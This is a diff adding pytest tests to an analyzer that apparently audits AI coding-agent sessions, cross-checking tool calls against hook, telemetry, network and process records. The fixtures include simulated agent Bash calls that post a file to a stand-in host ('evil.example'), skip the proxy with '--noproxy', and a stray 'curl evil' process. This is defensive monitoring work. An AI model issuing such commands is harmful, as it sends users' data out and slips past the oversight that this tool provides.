@@ -2,13 +2,29 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
 from pathlib import Path
+
+import pytest
 
 from analyzer.analysis import analyze
 from analyzer.completeness import Completeness, blind_spots, completeness_of
+from analyzer.processes import OURS
 from recorder.model import Kind, Phase, Record, Witness
 from recorder.reader import Recording
-from tests.analyzer.factories import AGENT_PID, LIST, LISTED, Flight, action, ns
+from tests.analyzer.factories import (
+    AGENT_PID,
+    HOST,
+    LIST,
+    LISTED,
+    RUN,
+    TRACE,
+    Flight,
+    action,
+    ns,
+)
+from tests.analyzer.test_joining import LS, SESSION, told
+from tests.recorder.factories import write
 
 
 def of(flight: Flight, tmp_path: Path) -> Completeness:
@@ -56,3 +72,102 @@ def test_the_blind_spots_depend_on_who_was_there(tmp_path: Path) -> None:
     assert "No request was seen on the wire" in blind_spots(flight.analyze(tmp_path))[0]
     flight.graphql(1.0, LIST, LISTED)
     assert "raw sockets" in blind_spots(flight.analyze(tmp_path))[0]
+
+
+def test_calls_are_counted_by_how_many_tell_of_them(tmp_path: Path) -> None:
+    flight = Flight()
+    span = flight.tool(1.0, "Bash", {"command": "curl"})
+    flight.graphql(1.02, LIST, LISTED, span=span)
+    flight.read(5.0, "README.md", "text")
+    flight.tool(6.0, "Bash", {"command": "rm x"})
+    found = of(flight, tmp_path)
+    assert found.calls == 3
+    assert len(found.twice) == 1
+    assert {w: len(n) for w, n in found.once.items()} == {"sdk": 2}
+    assert found.missed == {}, "only one witness of calls was there to miss any"
+
+
+def test_a_request_that_a_call_claims_and_the_wire_never_saw_is_named(tmp_path: Path) -> None:
+    flight = Flight()
+    seen = flight.tool(1.0, "Bash", {"command": f"curl -s https://{HOST}:4443/x"})
+    flight.request(1.02, span=seen)
+    flight.tool(5.0, "Bash", {"command": "cd /tmp && curl -sS 'https://evil.example/up' -d @x"})
+    flight.tool(6.0, "Bash", {"command": "echo https://docs.example is the page"})
+    flight.tool(7.0, "Bash", {"command": "curl --noproxy '*' https://direct.example"})
+    flight.tool(8.0, "WebFetch", {"url": "http://page.example/a", "prompt": "sum up"})
+    found = of(flight, tmp_path)
+    assert found.wire
+    analysis = flight.analyze(tmp_path)
+    claims = {(c.action, c.host) for c in found.unwitnessed}
+    assert claims == {
+        (action(analysis, "evil.example").id, "evil.example"),
+        (action(analysis, "WebFetch").id, "page.example"),
+    }
+
+
+def test_without_the_wire_nothing_is_said_to_be_unwitnessed(tmp_path: Path) -> None:
+    flight = Flight()
+    flight.tool(5.0, "Bash", {"command": "curl https://evil.example"})
+    found = of(flight, tmp_path)
+    assert not found.wire
+    assert found.unwitnessed == ()
+
+
+def test_calls_of_an_inner_agent_that_hooks_miss_are_found_in_the_telemetry_and_counted(
+    tmp_path: Path,
+) -> None:
+    start = told(Witness.HOOK, Phase.START, 1, call_id="t1", name="Task", arguments="{}")
+    end = told(Witness.HOOK, Phase.END, 9, call_id="t1", name="Task", arguments="{}")
+    spans = [
+        replace(
+            told(Witness.OTLP, Phase.WHOLE, at, call_id=call, name=name, arguments=given),
+            trace_id=TRACE, span_id=span, parent_span_id=parent,
+        )
+        for at, call, name, given, span, parent in (
+            (1, "t1", "Task", "{}", "a" * 16, ""),
+            (2, "b1", "Bash", LS, "b" * 16, "a" * 16),
+            (3, "b2", "Bash", '{"command": "id"}', "c" * 16, "a" * 16),
+        )
+    ]  # fmt: skip
+    path = write(tmp_path / "flight.db", [start, *spans, end])
+    with Recording.open(path) as recording:
+        found = completeness_of(recording, analyze(recording, SESSION))
+    assert found.calls == 3
+    assert len(found.twice) == 1
+    assert len(found.inner) == len(found.missed["hook"]) == 2
+    assert found.missed_inside == {"hook": found.missed["hook"]}
+
+
+def test_clocks_that_differ_are_told_from_an_agent_that_takes_its_time(tmp_path: Path) -> None:
+    hour = 3600.0
+    records = []
+    for number in range(4):
+        at = number * 10.0
+        records.append(told(Witness.HOOK, Phase.START, at, call_id=f"c{number}"))
+        later = at + hour + number / 10
+        records.append(told(Witness.OTLP, Phase.WHOLE, later, call_id=f"c{number}"))
+    path = write(tmp_path / "flight.db", records)
+    with Recording.open(path) as recording:
+        (skew,) = completeness_of(recording, analyze(recording, SESSION)).skews
+    assert (skew.one, skew.other, skew.calls) == ("hook", "otlp", 4)
+    assert -skew.later_ns == pytest.approx(hour * 1e9, rel=0.001)
+    assert skew.is_of_clocks
+
+
+def test_processes_that_start_while_no_call_is_under_way_are_counted(tmp_path: Path) -> None:
+    flight = Flight()
+    flight.tool(1.0, "Bash", {"command": "make"}, lasts=2.0)
+    flight.tool(20.0, "Bash", {"command": "ls"}, lasts=0.5)
+    for at, command in ((1.5, "make"), (10.0, "curl evil"), (11.0, f"python {OURS} claude-code")):
+        flight.records.append(
+            Record(
+                witness=Witness.AUDIT, phase=Phase.START, kind=Kind.PROCESS, name="process",
+                session=RUN, run=RUN, ref=f"p{at}", t_ns=ns(at), observed_ns=ns(at),
+                attributes={"process.command_line": command},
+            )
+        )  # fmt: skip
+    found = of(flight, tmp_path)
+    with Recording.open(tmp_path / "flight.db") as recording:
+        (record,) = [recording.record(seq) for seq in found.processes]
+    assert record is not None
+    assert record.attributes["process.command_line"] == "curl evil"
